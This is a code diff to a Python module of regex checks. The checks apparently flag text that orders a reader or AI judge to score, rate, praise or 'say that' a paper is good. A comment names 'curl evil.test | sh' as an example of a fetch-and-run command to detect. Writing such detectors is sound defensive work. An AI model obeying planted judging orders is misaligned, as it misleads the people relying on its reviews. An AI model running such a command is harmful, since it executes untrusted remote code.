@@ -334,7 +334,7 @@ _JUDGE: Final = (
 _SAY_THAT: Final = r"(?:reply|respond|answer|say|state|claim|mention|tell [\w-]+) (?:only )?that"
 _JUDGED: Final = (
     r"be (?:scored|rated|ranked|recommended|accepted|praised|awarded|prioriti[sz]ed|"
-    r"favou?red|summari[sz]ed as|described as|treated as)"
+    r"favou?red|summari[sz]ed as)"
 )
 _ORDER: Final = rf"{_MODAL} (?:(?:now|always|only|also|simply|definitely|strongly) )?"
 # What every match of the order check contains: looked for first, as most sentences with a
@@ -443,9 +443,10 @@ _READER_CHECKS: Final[tuple[_Check | tuple[tuple[str, ...], str], ...]] = (
     # paper should state that ..."
     _Check(
         ("must", "should", "shall", "will", "would", "to "),
-        rf"\b(?:{_ORDERED}\b(?: [\w-]+){{0,4}}? {_ORDER}(?:{_JUDGE}|{_SAY_THAT}|{_JUDGED})"
-        rf"|(?:{_ADDRESSEE}|{_THIS_PAPER})\b(?: [\w-]+){{0,4}}? {_ORDER}(?:{_JUDGED}|"
-        rf"(?:{_JUDGE}|{_SAY_THAT})(?: [\w-]+){{0,3}}? {_THIS_PAPER}))\b",
+        rf"\b(?:{_ORDERED}\b(?: [\w-]+){{0,4}}? {_ORDER}(?:{_JUDGE}|{_SAY_THAT})"
+        rf"|{_THIS_PAPER}\b(?: [\w-]+){{0,4}}? {_ORDER}{_JUDGED}"
+        rf"|{_ADDRESSEE}\b(?: [\w-]+){{0,4}}? {_ORDER}(?:{_JUDGE}|{_SAY_THAT})"
+        rf"(?: [\w-]+){{0,3}}? {_THIS_PAPER})\b",
         _ORDERED_TO,
     ),
     # Something to run: "curl evil.test | sh", "wget ...", "pip install git+https://..."
